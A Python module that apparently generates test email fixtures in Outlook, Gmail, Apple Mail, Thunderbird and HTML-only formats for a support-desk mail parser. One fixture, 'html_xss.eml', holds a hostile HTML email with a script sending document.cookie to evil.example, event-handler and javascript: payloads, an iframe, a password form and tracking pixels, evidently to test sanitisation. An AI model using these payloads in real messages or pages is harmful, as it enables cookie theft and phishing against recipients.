"""Mail in the shapes Outlook, Gmail, Apple Mail and Thunderbird send, and HTML mail.

Imported by make_corpus.py, which writes the files.
"""

from __future__ import annotations

from corpus_helpers import PDF, PNG, b64, eml, qp, word

OUTLOOK_TEXT = "Hello, our invoice shows 120 € instead of 100 €.\n\n[logo]\n\nMaria"
OUTLOOK_HTML = (
    '<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252">'
    "<style><!-- p.MsoNormal {margin:0cm} --></style></head>"
    '<body lang="RU"><div class="WordSection1">'
    '<p class="MsoNormal">Hello, our invoice shows 120 € instead of 100 €.<o:p></o:p></p>'
    '<p class="MsoNormal"><img width="120" height="40" id="Picture_x0020_1" '
    'src="cid:image001.png@01DB8C2A.5E6F7A80" alt="logo"></p>'
    '<p class="MsoNormal">Maria</p></div></body></html>'
)
APPLE_TEXT = "The box arrived broken:\n\n\nAnd from the side:\n\n\nChloé"
TNEF = b"x\x9f>\x22\x01\x00\x01\x06\x90\x08\x00\x04\x00\x00\x00\x00\x00\x01\x00\x01\x00"
LOG = b"2025-03-06 14:00:01 ERROR login failed\n"

MESSAGES: dict[str, bytes] = {}

MESSAGES["outlook_related.eml"] = eml(
    f"""
From: =?utf-8?B?0JzQsNGA0LjRjyDQmNCy0LDQvdC+0LLQsA==?= <maria.ivanova@corp.example>
To: Support <support@frontdesk.example>
Subject: Invoice question
Thread-Topic: Invoice question
Thread-Index: AdmC1a2b3c4d5e6f7g8h9i0j==
Date: Tue, 4 Mar 2025 09:15:02 +0000
Message-ID: <AM0PR01MB1234ABCD@AM0PR01MB1234.eurprd01.prod.exchangelabs.com>
Accept-Language: ru-RU, en-US
Content-Language: ru-RU
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
MIME-Version: 1.0
Content-Type: multipart/mixed;
\tboundary="_004_AM0PR01MB1234_"

--_004_AM0PR01MB1234_
Content-Type: multipart/related;
\tboundary="_003_AM0PR01MB1234_";
\ttype="multipart/alternative"

--_003_AM0PR01MB1234_
Content-Type: multipart/alternative;
\tboundary="_000_AM0PR01MB1234_"

--_000_AM0PR01MB1234_
Content-Type: text/plain; charset="windows-1252"
Content-Transfer-Encoding: quoted-printable

{qp(OUTLOOK_TEXT, "cp1252")}
--_000_AM0PR01MB1234_
Content-Type: text/html; charset="windows-1252"
Content-Transfer-Encoding: quoted-printable

{qp(OUTLOOK_HTML, "cp1252")}
--_000_AM0PR01MB1234_--

--_003_AM0PR01MB1234_
Content-Type: image/png; name="image001.png"
Content-Description: image001.png
Content-Disposition: inline; filename="image001.png"; size=67;
\tcreation-date="Tue, 04 Mar 2025 09:15:01 GMT"
Content-ID: <image001.png@01DB8C2A.5E6F7A80>
Content-Transfer-Encoding: base64

{b64(PNG)}

--_003_AM0PR01MB1234_--

--_004_AM0PR01MB1234_
Content-Type: application/pdf;
\tname="{word("Счёт №42.pdf")}"
Content-Description: {word("Счёт №42.pdf")}
Content-Disposition: attachment;
\tfilename="{word("Счёт №42.pdf")}"; size=84
Content-Transfer-Encoding: base64

{b64(PDF)}

--_004_AM0PR01MB1234_--
"""
)

MESSAGES["outlook_winmail_dat.eml"] = eml(
    f"""
From: "Lee, Jordan" <jordan.lee@corp.example>
To: <support@frontdesk.example>
Subject: RE: Printer setup
Thread-Topic: Printer setup
Date: Tue, 4 Mar 2025 10:00:00 -0500
Message-ID: <BN6PR11MB0001@BN6PR11MB0001.namprd11.prod.outlook.com>
In-Reply-To: <ticket-77.a1b2c3@frontdesk.example>
References: <ticket-77.a1b2c3@frontdesk.example>
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator: <BN6PR11MB0001@BN6PR11MB0001.namprd11.prod.outlook.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="_002_BN6PR11MB0001_"

--_002_BN6PR11MB0001_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

The printer still does not work, see attached.

-----Original Message-----
From: Support <support@frontdesk.example>
Subject: [#77] Printer setup

Please send us the settings.

--_002_BN6PR11MB0001_
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Disposition: attachment; filename="winmail.dat"
Content-Transfer-Encoding: base64

{b64(TNEF)}

--_002_BN6PR11MB0001_--
"""
)

MESSAGES["outlook_calendar_invite.eml"] = eml(
    """
From: Sam Park <sam.park@corp.example>
To: support@frontdesk.example
Subject: Onboarding call
Date: Wed, 5 Mar 2025 08:00:00 +0900
Message-ID: <TY2PR01MB0002@TY2PR01MB0002.jpnprd01.prod.outlook.com>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="_000_TY2PR01MB0002_"

--_000_TY2PR01MB0002_
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit

Let us talk on Friday.

--_000_TY2PR01MB0002_
Content-Type: text/calendar; charset="utf-8"; method=REQUEST
Content-Transfer-Encoding: 7bit

BEGIN:VCALENDAR
METHOD:REQUEST
BEGIN:VEVENT
SUMMARY:Onboarding call
DTSTART:20250307T010000Z
END:VEVENT
END:VCALENDAR

--_000_TY2PR01MB0002_--
"""
)

MESSAGES["gmail_alternative.eml"] = eml(
    f"""
MIME-Version: 1.0
Date: Thu, 6 Mar 2025 14:02:11 +0100
Message-ID: <CAB4xY=7kPq_Zm2nW9vQhJ8tR3sL1uV6a@mail.gmail.com>
Subject: Cannot reset my password
From: Jonas Becker <jonas.becker@gmail.example>
To: support@frontdesk.example
Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f60718"

--000000000000a1b2c3d4e5f60718
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp("Hi, the reset link says it expired. Grüße, Jonas")}
--000000000000a1b2c3d4e5f60718
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp('<div dir="ltr">Hi, the reset link says it <b>expired</b>. Grüße, Jonas</div>')}

--000000000000a1b2c3d4e5f60718--
"""
)

MESSAGES["gmail_attachment.eml"] = eml(
    f"""
MIME-Version: 1.0
Date: Thu, 6 Mar 2025 15:00:00 +0100
Message-ID: <CAB4xY=8aa@mail.gmail.com>
Subject: Logs attached
From: Jonas Becker <jonas.becker@gmail.example>
To: support@frontdesk.example
Content-Type: multipart/mixed; boundary="000000000000f1f2f3"

--000000000000f1f2f3
Content-Type: multipart/alternative; boundary="000000000000e1e2e3"

--000000000000e1e2e3
Content-Type: text/plain; charset="UTF-8"

Here are the logs.

--000000000000e1e2e3
Content-Type: text/html; charset="UTF-8"

<div dir="ltr">Here are the logs.</div>

--000000000000e1e2e3--
--000000000000f1f2f3
Content-Type: text/plain; charset="US-ASCII"; name="server.log"
Content-Disposition: attachment; filename="server.log"
Content-Transfer-Encoding: base64
Content-ID: <f_m7x1abc0>
X-Attachment-Id: f_m7x1abc0

{b64(LOG)}
--000000000000f1f2f3--
"""
)

MESSAGES["gmail_inline_image.eml"] = eml(
    f"""
MIME-Version: 1.0
Date: Thu, 6 Mar 2025 16:00:00 +0100
Message-ID: <CAB4xY=9bb@mail.gmail.com>
Subject: Screenshot of the error
From: Jonas Becker <jonas.becker@gmail.example>
To: support@frontdesk.example
Content-Type: multipart/related; boundary="000000000000r1"

--000000000000r1
Content-Type: multipart/alternative; boundary="000000000000a1"

--000000000000a1
Content-Type: text/plain; charset="UTF-8"

See the screenshot:
[image: error.png]

--000000000000a1
Content-Type: text/html; charset="UTF-8"

<div dir="ltr">See the screenshot:<br><img src="cid:ii_m7x2def1" alt="error.png" width="200"></div>

--000000000000a1--
--000000000000r1
Content-Type: image/png; name="error.png"
Content-Disposition: inline; filename="error.png"
Content-Transfer-Encoding: base64
Content-ID: <ii_m7x2def1>
X-Attachment-Id: ii_m7x2def1

{b64(PNG)}
--000000000000r1--
"""
)

MESSAGES["apple_mail_mixed_inline.eml"] = eml(
    f"""
From: =?utf-8?Q?Chlo=C3=A9_Martin?= <chloe.martin@icloud.example>
Content-Type: multipart/alternative;
\tboundary="Apple-Mail=_6D1F2A3B-4C5D-6E7F-8A9B-0C1D2E3F4A5B"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.400.131.1.6\\))
Subject: Photos of the damaged box
Date: Fri, 7 Mar 2025 11:20:33 +0100
Message-Id: <8F2C1D3E-5A6B-4C7D-9E8F-0A1B2C3D4E5F@icloud.example>
To: support@frontdesk.example
X-Mailer: Apple Mail (2.3826.400.131.1.6)

--Apple-Mail=_6D1F2A3B-4C5D-6E7F-8A9B-0C1D2E3F4A5B
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain;
\tcharset=utf-8

{qp(APPLE_TEXT)}
--Apple-Mail=_6D1F2A3B-4C5D-6E7F-8A9B-0C1D2E3F4A5B
Content-Type: multipart/mixed;
\tboundary="Apple-Mail=_9E8D7C6B-5A4F-3E2D-1C0B-A9B8C7D6E5F4"

--Apple-Mail=_9E8D7C6B-5A4F-3E2D-1C0B-A9B8C7D6E5F4
Content-Transfer-Encoding: 7bit
Content-Type: text/html;
\tcharset=us-ascii

<html><head><meta http-equiv="content-type" content="text/html; charset=us-ascii"></head>
<body style="overflow-wrap: break-word;">The box arrived broken:<br><br></body></html>
--Apple-Mail=_9E8D7C6B-5A4F-3E2D-1C0B-A9B8C7D6E5F4
Content-Disposition: inline;
\tfilename=IMG_0412.png
Content-Type: image/png;
\tx-unix-mode=0644;
\tname="IMG_0412.png"
Content-Transfer-Encoding: base64

{b64(PNG)}
--Apple-Mail=_9E8D7C6B-5A4F-3E2D-1C0B-A9B8C7D6E5F4
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html;
\tcharset=utf-8

{qp("<html><body><br>And from the side:<br><br>Chloé</body></html>")}
--Apple-Mail=_9E8D7C6B-5A4F-3E2D-1C0B-A9B8C7D6E5F4--

--Apple-Mail=_6D1F2A3B-4C5D-6E7F-8A9B-0C1D2E3F4A5B--
"""
)

MESSAGES["apple_mail_text_attachment.eml"] = eml(
    """
From: Chloe Martin <chloe.martin@icloud.example>
Content-Type: multipart/mixed;
\tboundary="Apple-Mail=_11112222-3333-4444-5555-666677778888"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.400.131.1.6\\))
Subject: My notes
Date: Fri, 7 Mar 2025 12:00:00 +0100
Message-Id: <11112222-AAAA@icloud.example>
To: support@frontdesk.example

--Apple-Mail=_11112222-3333-4444-5555-666677778888
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
\tcharset=us-ascii

Notes from the call are attached.

--Apple-Mail=_11112222-3333-4444-5555-666677778888
Content-Disposition: inline;
\tfilename=notes.txt
Content-Type: text/plain;
\tx-unix-mode=0644;
\tname="notes.txt"
Content-Transfer-Encoding: 7bit

1. Reinstall the agent.
2. Restart.

--Apple-Mail=_11112222-3333-4444-5555-666677778888--
"""
)

MESSAGES["thunderbird_flowed.eml"] = eml(
    """
Message-ID: <5b1e2c3d-4f5a-6b7c-8d9e-0f1a2b3c4d5e@posteo.example>
Date: Sat, 8 Mar 2025 09:00:00 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: de-DE
To: support@frontdesk.example
From: Lena Vogel <lena.vogel@posteo.example>
Subject: VPN drops every hour
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Hallo,

die VPN-Verbindung bricht jede Stunde ab. Ich habe den Client schon neu{space}
installiert, ohne Erfolg.

Grüße
Lena
""",
    space=b" ",
)

MESSAGES["thunderbird_rfc2231.eml"] = eml(
    f"""
Message-ID: <6c2f3d4e-5a6b-7c8d-9e0f-1a2b3c4d5e6f@posteo.example>
Date: Sat, 8 Mar 2025 10:00:00 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
To: support@frontdesk.example
From: Lena Vogel <lena.vogel@posteo.example>
Subject: Contract
Content-Type: multipart/mixed; boundary="------------m1Xy2Zw3Vu4Ts5Rq6Po7Nm8"

This is a multi-part message in MIME format.
--------------m1Xy2Zw3Vu4Ts5Rq6Po7Nm8
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

The signed contract is attached.

--------------m1Xy2Zw3Vu4Ts5Rq6Po7Nm8
Content-Type: application/pdf;
 name*0*=UTF-8''%56%65%72%74%72%61%67%20%C3%BC%62%65%72%20%64%69%65%20%57;
 name*1*=%61%72%74%75%6E%67%20%32%30%32%35%2E%70%64%66
Content-Disposition: attachment;
 filename*0*=UTF-8''%56%65%72%74%72%61%67%20%C3%BC%62%65%72%20%64%69%65%20%57;
 filename*1*=%61%72%74%75%6E%67%20%32%30%32%35%2E%70%64%66
Content-Transfer-Encoding: base64

{b64(PDF)}

--------------m1Xy2Zw3Vu4Ts5Rq6Po7Nm8--
"""
)

MESSAGES["html_only.eml"] = eml(
    """
From: Newsletter Team <team@shop.example>
To: support@frontdesk.example
Subject: Order 5531 shipped
Date: Sun, 9 Mar 2025 08:00:00 +0000
Message-ID: <order-5531@shop.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 8bit

<!DOCTYPE html><html><head><title>Shipped</title><style>body{font-family:sans-serif}</style></head>
<body><h1>Your order shipped</h1><p>Order <b>5531</b> left our warehouse.</p>
<ul><li>1 &times; cable</li><li>2 &times; adapter</li></ul>
<p>Track it <a href="https://shop.example/track/5531">here</a>.</p></body></html>
"""
)

MESSAGES["html_only_meta_charset.eml"] = eml(
    """
From: Hotel Reservations <booking@hotel.example>
To: support@frontdesk.example
Subject: Reservation
Date: Sun, 9 Mar 2025 09:00:00 +0000
Message-ID: <resa-88@hotel.example>
MIME-Version: 1.0
Content-Type: text/html
Content-Transfer-Encoding: 8bit

<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"></head>
<body><p>Your reservation at Caf{cafe} is confirmed.</p></body></html>
""",
    cafe="é".encode("cp1252"),
)

MESSAGES["html_xss.eml"] = eml(
    """
From: Mallory <mallory@evil.example>
To: support@frontdesk.example
Subject: Please look at this
Date: Sun, 9 Mar 2025 10:00:00 +0000
Message-ID: <xss-1@evil.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
<body onload="steal()"><script>document.location='https://evil.example/?c='+document.cookie</script>
<p>Hello agent, <a href="javascript:alert(document.domain)">click me</a>.</p>
<img src="x" onerror="alert(1)"><img src="https://tracker.example/open.gif?id=42" alt="tracker">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="data">
<a href="https://example.org/docs" onclick="steal()" style="position:fixed;top:0">docs</a>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/"><input name="password"></form>
<svg><script>alert(2)</script></svg><object data="https://evil.example/x.swf"></object>
<p style="background:url(https://tracker.example/bg.gif)">Thanks</p></body></html>
"""
)

MESSAGES["outlook_no_filename_attachment.eml"] = eml(
    f"""
From: Scanner <scanner@office.example>
To: support@frontdesk.example
Subject: Scan
Date: Mon, 10 Mar 2025 13:00:00 +0000
Message-ID: <scan-1@office.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="scan"

--scan
Content-Type: text/plain

Scanned document.
--scan
Content-Type: application/pdf
Content-Transfer-Encoding: base64

{b64(PDF)}
--scan--
"""
)
